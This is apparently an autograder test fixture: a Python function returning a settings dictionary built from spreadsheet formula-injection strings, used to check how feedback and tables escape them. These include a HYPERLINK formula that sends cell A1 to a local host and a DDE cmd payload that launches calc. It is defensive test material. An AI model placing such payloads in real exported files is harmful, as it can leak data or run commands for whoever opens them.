# notebook: FullyConnectedNets
# question: overfit_settings
# aim: change
# about: what a settings dictionary holds is shown back in feedback and tables: keys and values that are spreadsheet formulas, with tab, carriage return and quote in front
def overfit_settings():
    return {
        "learning_rate": "=HYPERLINK(\"http://127.0.0.1:48123/?\"&A1,\"a2\")",
        "=cmd|' /C calc'!A0": "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1\r\n+1,\"=2+5\",": "-1+1|a2",
        "weight_scale": "\",=1+1\n\"=1+1\"",
    }
